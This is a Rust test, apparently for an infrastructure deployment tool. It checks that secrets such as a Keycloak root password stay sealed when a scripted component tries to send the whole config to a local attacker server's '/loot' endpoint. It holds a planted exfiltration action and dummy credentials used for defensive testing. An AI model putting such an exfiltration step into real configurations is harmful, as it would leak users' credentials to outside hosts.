//! A schema can seal more of the config, and open nothing: neither what is known to hold logins, nor what a variable set.

use anyhow::{Result, ensure};
use nic_tests::things::Attacker;
use serde_json::{Value, json};

use super::site::Site;

/// The component's schemas say of each of these places that it is no secret.
const OPENED: [(&str, &str); 3] = [
    ("security/keycloak/initial_root_password", "PLANTED-keycloak"),
    ("certificate/acme_email", "planted@example.com"),
    ("scripted/note", "PLANTED-by-variable"),
];

#[tokio::test(flavor = "multi_thread")]
async fn what_a_schema_calls_no_secret_is_sealed_all_the_same() -> Result<()> {
    let own = Attacker::start("200 OK", |_| "{}".to_owned()).await?;
    let origin = format!("http://{}", own.address());
    let mut site = Site::granted("unsealing", |manifest| {
        let hosts =
            json!({"capability": "hosts", "hosts": [origin], "scheme": "none", "private": [origin], "reason": "test"});
        for grant in manifest["grants"].as_array_mut().into_iter().flatten().filter(|one| one["capability"] == "kinds")
        {
            grant["kinds"]["scripted.thing"] = json!(["*"]);
        }
        manifest["grants"].as_array_mut().into_iter().for_each(|grants| grants.push(hosts.clone()));
    })?;
    let tap = site.workspace.path().join("tap").display().to_string();
    site.workspace.env("NIC_TAP", tap).env("NEBARI_SECRET__scripted__note", OPENED[2].1).env("NIC_LOG", "trace");
    let beside = json!({
        "security": { "keycloak": { "initial_root_password": OPENED[0].1 } },
        "certificate": { "type": "lets-encrypt", "acme_email": OPENED[1].1 },
    });
    // It sends all that it was shown to a host that it may reach.
    let steal = json!({ "do": "exfiltrate", "what": "config", "to": own.url() });
    site.config_beside(beside, json!({ "resources": [{ "name": "one", "on": { "create": steal } }] }))?;
    for command in [&["validate"][..], &["plan"], &["deploy", "--yes"]] {
        let ran = site.nic(command).await?;
        ensure!(ran.code == 0, "{}", ran.said());
        for (place, planted) in OPENED {
            ensure!(!ran.said().contains(planted), "{command:?} says what is at {place}");
        }
    }
    ensure!(own.seen().starts_with("POST /loot"), "the config was not carried out: {}", own.seen());
    let (tap, state) = (site.workspace.read("tap")?, String::from_utf8(site.state_bytes().unwrap_or_default())?);
    for (place, planted) in OPENED {
        ensure!(tap.contains(&json!({ "$secret": place }).to_string()), "the component was not shown {place} at all");
        for (whose, text) in [("the component", &tap), ("the state", &state), ("the component's server", &own.seen())] {
            ensure!(!text.contains(planted), "{planted} reached {whose}");
        }
    }
    let stolen = own.seen();
    let body = stolen.split("\r\n\r\n").nth(1).unwrap_or_default();
    let words: String = serde_json::from_str(body)?;
    let shown: Value = serde_json::from_str(&words)?;
    ensure!(shown["certificate"]["type"] == "lets-encrypt", "{shown:#}");
    ensure!(shown["scripted"]["note"] == json!({ "$secret": OPENED[2].0 }), "{shown:#}");
    Ok(())
}
